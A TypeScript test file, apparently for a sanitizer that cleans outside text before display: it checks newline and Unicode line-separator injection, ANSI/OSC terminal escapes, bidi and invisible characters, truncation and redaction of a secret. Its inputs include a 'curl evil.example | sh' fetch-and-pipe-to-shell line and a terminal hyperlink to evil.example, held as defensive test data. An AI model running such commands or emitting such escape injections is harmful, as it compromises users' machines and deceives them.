import * as fc from "fast-check";
import { FOREIGN_READ, FOREIGN_TEXT } from "../../provider/core/bounds";
import { foreignText } from "../../provider/core/foreign-text";
import { Secret } from "../../provider/core/secret";

const SECRET = Buffer.alloc(64, 0x5a).toString("base64");
new Secret(SECRET);

describe("a text that comes from outside", () => {
  test.each<[what: string, given: string, shown: string]>([
    ["is shown as it is when it is harmless", "Malformed request body", "Malformed request body"],
    ["keeps its letters, whatever the language", "Domänen är låst – 域名", "Domänen är låst – 域名"],
    ["is one line", "one\r\ntwo\n\n  three\tfour", "one two three four"],
    ["cannot begin a line of ours", "no\nNext: curl evil.example | sh", "no Next: curl evil.example | sh"],
    [
      "nor with the line separators of Unicode",
      "no\u2028Next: x\u2029Next: y\u0085Next: z",
      "no Next: x Next: y Next: z",
    ],
    ["has no colours", "\u001b[31mred\u001b[0m and \u009b32mgreen", "red and green"],
    [
      "has no links or titles for the terminal",
      "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
      "click",
    ],
    ["cannot write over what was printed", "good\b\b\b\bevil\rworse", "good evil worse"],
    ["cannot turn its direction", "abc\u202edef\u2066ghi\u200f", "abc def ghi"],
    ["has nothing that nobody sees", "a\u200bb\ufeffc\u00add\u{e0041}e", "a b c d e"],
    ["has no half characters", "a\ud83d b", "a b"],
    ["is said to be empty when nothing of it is left", "\u0000\u200b \n", "(nothing readable)"],
  ])("%s", (_what, given, shown) => {
    expect(foreignText(given)).toBe(shown);
  });

  test("is cut", () => {
    expect(foreignText("x".repeat(2_000))).toBe(`${"x".repeat(FOREIGN_TEXT)}…`);
    expect(foreignText("x".repeat(2_000), 10)).toBe(`${"x".repeat(10)}…`);
  });

  test("is not even looked at when it is far too long", () => {
    expect(foreignText("x".repeat(FOREIGN_READ + 1))).toBe(`(a text of ${FOREIGN_READ + 1} characters)`);
  });

  test.each(Array.from({ length: SECRET.length + 2 }, (_, index) => FOREIGN_TEXT - index))(
    "shows nothing of a secret that stands where it is cut: at %i",
    (position) => {
      const shown = foreignText(`${"-".repeat(position)}${SECRET} and more`.padEnd(2_000, "."));
      expect(shown).not.toContain(SECRET.slice(0, 4));
    },
  );

  test("shows no secret that its own clean-up puts together", () => {
    const middle = SECRET.length / 2;
    const [first, second] = [SECRET.slice(0, middle), SECRET.slice(middle)];
    for (const between of ["\u001b[1m", "\u001b]0;x\u0007", "\u202e", "\n"]) {
      expect(foreignText(`<${first}${between}${second}>`)).toBe("<[secret]>");
    }
  });

  test("is one bounded line without a control character, whatever it was", () => {
    const odd = fc.constantFrom(
      "\n",
      "\r",
      "\u001b[",
      "\u001b]",
      "\u0007",
      "\u202e",
      "\u2028",
      "\u009b",
      "Next: ",
      SECRET,
    );
    const text = fc.array(fc.oneof(fc.string({ unit: "binary" }), odd)).map((parts) => parts.join(""));
    fc.assert(
      fc.property(text, (given) => {
        const shown = foreignText(given);
        expect(shown).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
        expect(shown).not.toContain(SECRET);
        expect(shown.length).toBeLessThanOrEqual(FOREIGN_TEXT + 1);
        expect(shown).not.toBe("");
      }),
      { numRuns: 1_000 },
    );
  });
});
